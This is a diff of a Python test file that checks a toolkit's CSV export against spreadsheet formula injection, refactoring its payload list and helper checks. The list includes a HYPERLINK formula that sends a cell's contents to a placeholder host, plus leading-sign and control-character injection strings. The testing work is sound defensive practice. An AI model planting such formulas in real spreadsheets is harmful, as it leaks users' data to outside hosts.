@@ -22,52 +22,30 @@ pytestmark = pytest.mark.usefixtures("no_pictures")
 PACKAGE = Path(__file__).parents[2] / "toolkit"
 LINK = '=HYPERLINK("http://x/?"&A1,"open")'
 HOSTILE = (
-    LINK,
-    "+1+1",
-    "-2+3",
-    "@SUM(1)",
-    "\t=1",
-    "\r=1",
-    "＝1+1",
-    "＋1",
-    "'=1",
-    "''",
-    "－1",
-    "＠x",
-    "\n=1",
-    "\0=1",
+    *(LINK, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "＝1+1", "＋1", "'=1", "''"),
+    *("－1", "＠x", "\n=1", "\0=1"),
 )
 NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?|-?inf", re.IGNORECASE)
 
 
 def formulas(path: Path) -> list[str]:
     """Return the cells of a CSV file that a spreadsheet would run."""
+    signs = tuple("=+-@\t\r\n\0＝＋－＠")
     with path.open(encoding="utf-8", newline="") as stream:
-        cells = [cell for row in csv.reader(stream) for cell in row]
-    return [
-        cell for cell in cells if cell[:1] in tuple("=+-@\t\r\n\0＝＋－＠") and not NUMBER.fullmatch(cell)
-    ]
+        cells = [cell for row in csv.reader(stream) for cell in row if cell.startswith(signs)]
+    return [cell for cell in cells if not NUMBER.fullmatch(cell)]
 
 
 def test_one_file_writes_csv() -> None:
     """Whatever writes a table elsewhere would have to guard it too."""
     writers = {"to_csv", "to_excel", "to_clipboard", "write_csv", "DictWriter", "savetxt", "CSVWriter"}
-    found = []
-    for path in sorted(PACKAGE.rglob("*.py")):
+    found = set()
+    for path in PACKAGE.rglob("*.py"):
         for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
-            name = (
-                node.attr
-                if isinstance(node, ast.Attribute)
-                else node.id
-                if isinstance(node, ast.Name)
-                else ""
-            )
-            csv_writer = (
-                name == "writer" and isinstance(node, ast.Attribute) and ast.unparse(node.value) == "csv"
-            )
-            if name in writers or csv_writer:
-                found.append(f"{path.relative_to(PACKAGE)}: {name}")
-    assert {line.partition(":")[0] for line in found} == {"table_files.py"}
+            name = getattr(node, "attr", getattr(node, "id", ""))
+            if name in writers or (name == "writer" and ast.unparse(node) == "csv.writer"):
+                found.add(path.name)
+    assert found == {"table_files.py"}
 
 
 @pytest.mark.parametrize("text", [*HOSTILE, "plain", "", "'", "a=1", "-", "1_0"])
@@ -88,15 +66,8 @@ def test_a_text_comes_back(text, tmp_path) -> None:
 def test_a_negative_number_is_no_text() -> None:
     """Of whatever type it is, in a column of its own or among texts."""
     mixed = pd.Series([np.int64(-5), -0.5, np.float32(-2), "-x", None, True], dtype="object")
-    assert csv_bytes(pd.DataFrame({"a": mixed})).decode().split() == [
-        "a",
-        "-5",
-        "-0.5",
-        "-2.0",
-        "'-x",
-        '""',
-        "True",
-    ]
+    cells = csv_bytes(pd.DataFrame({"a": mixed})).decode().split()
+    assert " ".join(cells) == 'a -5 -0.5 -2.0 \'-x "" True'
 
 
 def hostile_ratings() -> pd.DataFrame:
